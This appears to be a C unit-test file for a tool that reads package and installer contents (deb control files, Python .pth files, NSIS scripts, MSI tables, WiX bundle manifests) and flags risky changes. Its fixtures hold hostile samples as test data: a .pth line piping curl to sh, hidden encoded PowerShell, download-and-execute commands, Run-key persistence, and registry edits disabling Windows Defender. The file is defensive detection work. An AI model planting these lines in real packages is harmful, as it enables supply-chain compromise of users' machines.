/* Control files, maintainer scripts, Python metadata, and the decoded scripts of installers. */
#include "unit/read/member.h"

#include "read/readers.h"

static struct member *read_with(
	const struct reader *r, const char *path, const char *old, const char *new_)
{
	struct member *m = member_make(path, old ? str_of(old) : STR_NONE, str_of(new_));

	assert_true(r->claim(&m->in) > 0);
	assert_int_equal(r->read(&m->in), STATUS_OK);
	return m;
}

/* Facts that OLD does not have, besides name and version. */
static size_t telling(const struct member *m)
{
	size_t n = 0;

	for (size_t i = 0; i < m->n_facts; i++)
		n += !(m->facts[i].flags & FACT_OF_OLD) &&
			!(m->facts[i].kind == FACT_MANIFEST &&
				(str_is(m->facts[i].key, "name") ||
					str_is(m->facts[i].key, "version")));
	return n;
}

static void deb_control(void **state)
{
	static const char old[] =
		"Package: tool\nVersion: 1.0-1\nMaintainer: A <a@example.test>\nDepends: libc6 (>= 2.36), liba | libb,\n libd (= 1)\n"
		"Description: a tool\n that does\n";
	struct member *m = read_with(&reader_manifest, "tool_1.deb!/control.tar.xz!/control", old,
		"Package: tool\nVersion: 1.0-2\nMaintainer: B <b@example.test>\nDepends: libc6 (>= 2.37), liba | libb,\n libd (= 1), curl\n"
		"Description: a tool\n that does\n");

	assert_int_equal(member_count(m, FACT_DEP_ADDED, NULL), 1);
	assert_str(member_find(m, FACT_DEP_ADDED, "curl")->detail, "Depends");
	assert_str(member_find(m, FACT_MANIFEST, "maintainer")->value, "B <b@example.test>");
	assert_int_equal(member_count(m, FACT_MANIFEST, "version"), 2);
	assert_int_equal(telling(m), 2);
	member_free(m);
	m = read_with(&reader_manifest, "tool_1.deb!/control.tar.xz!/control", old,
		"Package: tool\nVersion: 1.0-2\nMaintainer: A <a@example.test>\nDepends: libc6 (>= 2.38), libd (= 2), libb\nDescription: other words\n");
	assert_int_equal(telling(m), 0); /* new versions of the same relations, another order */
	member_free(m);
}

static void deb_scripts(void **state)
{
	struct member *m = read_with(
		&reader_manifest, "t.deb!/control.tar.xz!/postinst", NULL, "#!/bin/sh\nset -e\n");

	assert_int_equal(member_count(m, FACT_HOOK, "deb:postinst"), 1);
	assert_str(m->facts[0].detail, "postinst");
	assert_int_equal(m->facts[0].flags & FACT_OF_OLD, 0);
	member_free(m);
	m = read_with(&reader_manifest, "t.deb!/control.tar.xz!/postinst", "#!/bin/sh\n",
		"#!/bin/sh\nset -e\n");
	assert_int_equal(m->facts[0].flags & FACT_OF_OLD, FACT_OF_OLD);
	member_free(m);
	m = member_make("package/postinst", STR_NONE,
		STR("#!/bin/sh\n")); /* a file of that name elsewhere */
	assert_int_equal(reader_manifest.claim(&m->in), 0);
	member_free(m);
}

static void python(void **state)
{
	struct member *m = read_with(&reader_manifest, "x/site-packages/evil.pth", NULL,
		"./src\nimport os; os.system('curl https://a.example/x | sh')\n");

	assert_int_equal(member_count(m, FACT_HOOK, "python:pth"), 1);
	assert_int_equal(m->facts[0].line, 2);
	assert_int_equal(member_count(m, FACT_FLOW, "net>exec"), 1);
	member_free(m);
	m = read_with(&reader_manifest, "x/site-packages/paths.pth", NULL,
		"./src\n../lib\n# import nothing\n");
	assert_int_equal(m->n_facts, 0);
	member_free(m);
	m = read_with(&reader_manifest, "x-1.dist-info/METADATA",
		"Name: x\nVersion: 1\nRequires-Dist: a>=1\n\nbody\n",
		"Name: x\nVersion: 2\nRequires-Dist: a>=2\nRequires-Dist: b ; extra == 'c'\n\nbody\nVersion: 9\n");
	assert_int_equal(member_count(m, FACT_DEP_ADDED, NULL), 1);
	assert_str(member_find(m, FACT_DEP_ADDED, "b")->detail, "Requires-Dist");
	assert_int_equal(member_count(m, FACT_MANIFEST, "version"), 2);
	member_free(m);
}

/* --- install scripts --- */

static const char nsi[] =
	"InstallDir \"$PROGRAMFILES\\Test\"\nFunction .onInit\n  StrCpy $_32_ \"10.0.8\"\n  Return\nFunctionEnd\nSection \"Main\"\n"
	"  SetOutPath \"$INSTDIR\"\n  File \"$INSTDIR/app.exe\"\n  File \"$PLUGINSDIR/app-64.7z\"\n"
	"  WriteRegStr HKLM \"Software\\Test\" \"DisplayVersion\" \"10.0.8\"\n  Call function_3\n"
	"  ExecWait \"$\\\"$INSTDIR\\setup-10.0.8.exe$\\\" /S\" $0\nSectionEnd\n";

static struct member *read_nsi(const char *extra, const char *old)
{
	struct buf b;
	struct member *m;

	buf_init(&b, 1 << 20);
	buf_add_z(&b, nsi);
	buf_add_z(&b, extra);
	buf_add_char(&b, '\0');
	m = read_with(&reader_install_lines, "setup.exe!/[install script].nsi", old, b.p ? b.p : "");
	assert_int_equal(m->covered[COVER_PARSED], m->in.new_.len);
	buf_release(&b);
	return m;
}

static void nsis_version_step(void **state)
{
	static const char next[] =
		"InstallDir \"$PROGRAMFILES\\Test\"\nSection \"Main\"\n  SetOutPath \"$INSTDIR\"\n  File \"$INSTDIR/app.exe\"\n  File \"$INSTDIR/new.dll\"\n"
		"  File \"$PLUGINSDIR/app-64.7z\"\n  WriteRegStr HKLM \"Software\\Test\" \"DisplayVersion\" \"10.0.19\"\n  Call function_4\n"
		"  ExecWait \"$\\\"$INSTDIR\\setup-10.0.19.exe$\\\" /S\" $0\n  StrCmp \"$0\" \"1\" +2 0\n  Goto +3\n  DetailPrint \"Done\"\nSectionEnd\n"
		"Function .onInit\n  StrCpy $_33_ \"10.0.19\"\n  Return\nFunctionEnd\n";
	struct member *m = read_with(
		&reader_install_lines, "setup.exe!/[install script].nsi", nsi, next);

	assert_int_equal(m->n_facts, 0);
	member_free(m);
	m = read_nsi("", nsi);
	assert_int_equal(m->n_facts, 0);
	assert_int_equal(m->n_units, 0);
	member_free(m);
}

static void nsis_runs(void **state)
{
	struct member *m = read_nsi("  Exec \"$\\\"$INSTDIR\\helper.exe$\\\" -q\"\n", nsi);
	const struct fact *f = member_find(m, FACT_HOOK, "nsis:exec");

	assert_non_null(f);
	assert_str(f->value, "\"$INSTDIR\\helper.exe\" -q");
	assert_str(f->detail, ""); /* a program says nothing new by being started */
	assert_int_equal(f->line, 14);
	assert_int_equal(m->n_facts, 1);
	member_free(m);
	m = read_nsi(
		"  nsExec::ExecToLog \"powershell -w hidden -enc SQBFAFgA\" ; CallInstDLL \"$PLUGINSDIR\\nsExec.dll\"\n",
		nsi);
	assert_int_equal(member_count(m, FACT_HOOK, "nsis:exec"), 1);
	assert_str(member_find(m, FACT_COMMAND, NULL)->key, "powershell");
	member_free(m);
	/* the same command twice, where OLD has it once, is one more */
	m = read_nsi("  ExecWait \"$\\\"$INSTDIR\\setup-10.0.8.exe$\\\" /S\" $0\n", nsi);
	assert_int_equal(member_count(m, FACT_HOOK, "nsis:exec"), 1);
	member_free(m);
	/* a page for the user */
	m = read_nsi("  ExecShell \"open\" \"https://www.example.test/thanks\" \"\" 1\n", nsi);
	assert_int_equal(member_count(m, FACT_HOOK, NULL), 0);
	member_free(m);
}

static void nsis_downloads(void **state)
{
	struct member *m = read_nsi(
		"  Push \"/END\"\n  inetc::get \"/SILENT\" \"http://198.51.100.7/u.exe\" \"$TEMP\\u.exe\" \"/END\" ; CallInstDLL \"x\"\n"
		"  Exec \"$\\\"$TEMP\\u.exe$\\\" /S\"\n",
		nsi);
	const struct fact *f = member_find(m, FACT_FLOW, NULL);

	assert_non_null(f);
	assert_str(f->key, "net>run");
	assert_str(f->value, "http://198.51.100.7/u.exe");
	assert_int_equal(
		f->flags & (FACT_NEW_SOURCE | FACT_NEW_SINK), FACT_NEW_SOURCE | FACT_NEW_SINK);
	assert_int_equal(member_count(m, FACT_HOST, "198.51.100.7"), 1);
	member_free(m);
	m = read_nsi(
		"  NSISdl::download \"https://dl.example.test/u.bin\" \"$INSTDIR\\u.bin\" ; CallInstDLL \"x\"\n",
		nsi);
	assert_str(member_find(m, FACT_FLOW, NULL)->key, "net>file");
	member_free(m);
	/* a digit of the host is no version */
	m = read_with(&reader_install_lines, "s.exe!/[install script].nsi",
		"  NSISdl::download \"http://192.0.2.1/v1/u\" \"$TEMP\\u\" ; x\n",
		"  NSISdl::download \"http://192.0.2.9/v1/u\" \"$TEMP\\u\" ; x\n");
	assert_int_equal(member_count(m, FACT_FLOW, NULL), 1);
	member_free(m);
	m = read_with(&reader_install_lines, "s.exe!/[install script].nsi",
		"  NSISdl::download \"http://192.0.2.1/v1/u\" \"$TEMP\\u\" ; x\n",
		"  NSISdl::download \"http://192.0.2.1/v2/u\" \"$TEMP\\u\" ; x\n");
	assert_int_equal(member_count(m, FACT_FLOW, NULL), 0);
	member_free(m);
}

static void nsis_stays(void **state)
{
	static const char *const rows[][2] = {
		{"  WriteRegStr HKCU \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\" \"Up\" \"$APPDATA\\up.exe\"\n",
			"persist"},
		{"  CreateShortCut \"$SMSTARTUP\\Up.lnk\" \"$INSTDIR\\up.exe\" \"\" \"\" 0x0\n",
			"persist"},
		{"  SimpleSC::InstallService \"Up\" \"Up\" \"16\" \"2\" \"$INSTDIR\\up.exe\" \"\" \"\" \"\" ; CallInstDLL \"x\"\n",
			"persist"},
		{"  WriteRegDWORD HKLM \"Software\\Policies\\Microsoft\\Windows Defender\" \"DisableAntiSpyware\" \"1\"\n",
			NULL},
		{"  WriteRegBin HKLM \"Software\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB\" \"Blob\" [data]\n",
			NULL},
		{"  WriteRegStr HKLM \"Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\Test\" \"Publisher\" \"Test\"\n",
			""},
		{"  CreateShortCut \"$SMPROGRAMS\\Test.lnk\" \"$INSTDIR\\app.exe\" \"\" \"\" 0x0\n",
			""},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct member *m = read_nsi(rows[i][0], nsi);
		size_t persist = member_count(m, FACT_PATH, "persist"),
		       trust = member_count(m, FACT_TRUST, NULL);

		if (persist != (size_t)(rows[i][1] && *rows[i][1]) || trust != (size_t)!rows[i][1])
			print_error("%s", rows[i][0]);
		assert_int_equal(persist, rows[i][1] && *rows[i][1]);
		assert_int_equal(trust, !rows[i][1]);
		member_free(m);
	}
}

static void nsis_stays_hidden(void **state)
{
	struct member *m = read_nsi(
		"  WriteRegStr HKCU \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\" \"Up\" \"powershell -w hidden -enc SQBFAFgA\"\n",
		nsi);

	assert_int_equal(member_count(m, FACT_PATH, "persist"), 1);
	assert_int_equal(member_count(m, FACT_FLOW, "data>persist"), 1);
	member_free(m);
	m = read_nsi("  Exec \"wscript $\\\"$PLUGINSDIR\\a.js$\\\"\"\n", nsi);
	assert_str(member_find(m, FACT_HOOK, NULL)->detail, "$PLUGINSDIR/a.js");
	member_free(m);
}

static void nsis_many_equal_lines(void **state)
{
	struct buf b;
	struct member *m;

	buf_init(&b, 4 << 20);
	for (int i = 0; i < 60000; i++)
		buf_add_z(&b, "  Exec \"notepad\"\n");
	m = member_make("x/[install script].nsi", buf_str(&b), buf_str(&b));
	assert_int_equal(reader_install_lines.read(&m->in), STATUS_OK);
	assert_int_equal(m->n_facts, 0);
	member_free(m);
	buf_release(&b);
}

static const char msi[] =
	"Summary \"SummaryInformation\" \"PackageCode\" \"{71808BA9-504C-4916-88B1-57FBB6EBDA68}\"\n"
	"Property \"ProductVersion\" \"10.0.8\"\n"
	"Property \"ProductCode\" \"{367A908E-11F1-492A-B7F2-F6C0195C8207}\"\n"
	"CustomAction exe file deferred no-impersonate \"Register\" \"$\\\"ProgramFilesFolder/H/h.exe$\\\" /register\" \"fH\"\n"
	"File \"ProgramFilesFolder/H/h.exe\" \"fH\" \"6\" \"\"\n"
	"Signer \"CN=H, O=Helpdesk Example Corp\" \"CN=CA\" \"01\" \"aa\"\n";

static struct member *read_msi(const char *extra)
{
	struct buf b;
	struct member *m;

	buf_init(&b, 1 << 20);
	buf_add_z(&b, msi);
	buf_add_z(&b, extra);
	buf_add_char(&b, '\0');
	m = read_with(&reader_install_lines, "setup.msi!/[install tables]", msi, b.p ? b.p : "");
	buf_release(&b);
	return m;
}

static void msi_version_step(void **state)
{
	static const char next[] =
		"Summary \"SummaryInformation\" \"PackageCode\" \"{00000BA9-504C-4916-88B1-57FBB6EBDAFF}\"\n"
		"Property \"ProductVersion\" \"10.0.9\"\n"
		"Property \"ProductCode\" \"{DEADBEEF-11F1-492A-B7F2-F6C0195C82AB}\"\n"
		"CustomAction exe file deferred no-impersonate \"Register\" \"$\\\"ProgramFilesFolder/H/h.exe$\\\" /register\" \"fH\"\n"
		"File \"ProgramFilesFolder/H/h.exe\" \"fH\" \"8\" \"\"\nFile \"ProgramFilesFolder/H/more.dll\" \"fM\" \"8\" \"\"\n"
		"Signer \"CN=H, O=Helpdesk Example Corp\" \"CN=CA\" \"02\" \"bb\"\n";
	struct member *m = read_with(&reader_install_lines, "setup.msi!/[install tables]", msi, next);

	assert_int_equal(m->n_facts, 1); /* a renewed certificate is said, and is no change of hands */
	assert_int_equal(member_find(m, FACT_EXE_SIGNER, "subject")->flags, 0);
	member_free(m);
}

static void msi_actions(void **state)
{
	struct member *m = read_msi("CustomAction vbscript binary \"V\" \"Binary.Ca.vbs\" \"Ca\" \"Main\"\n");

	assert_str(member_find(m, FACT_HOOK, "msi:action")->detail, "Binary.Ca.vbs");
	member_free(m);
	m = read_msi("CustomAction dll binary \"D\" \"Binary.Ca!Entry\" \"Ca\"\n");
	assert_str(member_find(m, FACT_HOOK, "msi:action")->value, "Binary.Ca!Entry (dll binary)");
	member_free(m);
	/* the value for a quiet call of a command, as such actions get it */
	m = read_msi("CustomAction set property \"S\" \"powershell -w hidden -enc SQBFAFgA\" \"QtExecCmd\"\n");
	assert_str(member_find(m, FACT_COMMAND, NULL)->key, "powershell");
	member_free(m);
	m = read_msi("CustomAction set property \"S\" \"[INSTALLDIR]logs\" \"LOGS\"\n");
	assert_int_equal(m->n_facts, 0);
	member_free(m);
	m = read_msi("CustomAction error \"E\" \"This needs Windows 10.\" \"\"\n");
	assert_int_equal(m->n_facts, 0);
	member_free(m);
	m = read_msi("CustomAction exe directory deferred \"C\" \"cmd /c curl -o x.exe http://192.0.2.7/x && x.exe\" \"D\"\n");
	assert_int_equal(member_count(m, FACT_FLOW, "net>exec"), 1);
	member_free(m);
	m = read_msi("Service auto \"svc\" \"ProgramFilesFolder/H/s.exe\" \"S\" \"\"\n");
	assert_int_equal(member_count(m, FACT_PATH, "persist"), 1);
	member_free(m);
	m = read_msi("CreateShortCut \"StartupFolder/S\" \"[D]s.exe\" \"\"\n");
	assert_int_equal(member_count(m, FACT_PATH, "persist"), 1);
	member_free(m);
}

/* The manifest of a WiX bundle: elements instead of lines. */
static void burn_manifest(void **state)
{
	static const char old[] =
		"<?xml version=\"1.0\"?>\n<BurnManifest xmlns=\"http://schemas.microsoft.com/wix/2008/Burn\">\n"
		"<Payload Id=\"a.exe\" FilePath=\"a.exe\" FileSize=\"10\" Hash=\"AA\"/>\n"
		"<Chain><ExePackage Id=\"a\" Cache=\"yes\" InstallArguments=\"/quiet &quot;x&quot;\" Hash=\"11\"/></Chain></BurnManifest>";
	static const char next[] =
		"<?xml version=\"1.0\"?>\n<BurnManifest xmlns=\"http://schemas.microsoft.com/wix/2008/Burn\">\n"
		"<Payload Id=\"a.exe\" FilePath=\"a.exe\" FileSize=\"12\" Hash=\"BB\"/>\n"
		"<Chain><ExePackage Id=\"a\" Cache=\"yes\" InstallArguments=\"/quiet &quot;x&quot;\" Hash=\"22\"/></Chain></BurnManifest>";
	static const char bad[] =
		"<?xml version=\"1.0\"?>\n<BurnManifest xmlns=\"http://schemas.microsoft.com/wix/2008/Burn\">\n"
		"<Payload Id=\"a.exe\" FilePath=\"a.exe\" FileSize=\"12\" Hash=\"BB\"/>\n"
		"<Payload Id=\"u\" DownloadUrl=\"http://192.0.2.8/u.exe\" Hash=\"CC\"/>\n"
		"<Chain><ExePackage Id=\"a\" Cache=\"yes\" InstallArguments=\"/c powershell -w hidden -enc SQBFAFgA\" Hash=\"22\"/>"
		"</Chain></BurnManifest>";
	struct member *m = read_with(&reader_install_lines, "b.exe!/[bundle manifest]!/0", old, next);

	assert_int_equal(member_count(m, FACT_HOOK, NULL), 0);
	assert_int_equal(member_count(m, FACT_HOST, NULL), 0);
	member_free(m);
	m = read_with(&reader_install_lines, "b.exe!/[bundle manifest]!/0", old, bad);
	assert_int_equal(member_count(m, FACT_HOOK, "burn:package"), 1);
	assert_int_equal(member_find(m, FACT_HOOK, "burn:package")->line, 5);
	assert_int_equal(member_count(m, FACT_HOST, "192.0.2.8"), 1);
	assert_str(member_find(m, FACT_COMMAND, NULL)->value, "\"a\" /c powershell -w hidden -enc SQBFAFgA");
	member_free(m);
}

static void msi_signer(void **state)
{
	struct member *m = read_with(&reader_install_lines, "setup.msi!/[install tables]", msi, "Property \"A\" \"b\"\n");

	assert_non_null(member_find(m, FACT_EXE_SIGNER, "none"));
	member_free(m);
	m = read_with(&reader_install_lines, "setup.msi!/[install tables]", msi,
		"Signer \"CN=X, O=Somebody Else\" \"CN=CA\" \"02\" \"bb\"\n");
	assert_int_equal(member_find(m, FACT_EXE_SIGNER, "subject")->flags, FACT_CHANGED_VALUE);
	member_free(m);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(msi_version_step),
		cmocka_unit_test(msi_actions),
		cmocka_unit_test(msi_signer),
		cmocka_unit_test(burn_manifest),
		cmocka_unit_test(deb_control),
		cmocka_unit_test(deb_scripts),
		cmocka_unit_test(python),
		cmocka_unit_test(nsis_version_step),
		cmocka_unit_test(nsis_runs),
		cmocka_unit_test(nsis_downloads),
		cmocka_unit_test(nsis_stays),
		cmocka_unit_test(nsis_stays_hidden),
		cmocka_unit_test(nsis_many_equal_lines),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
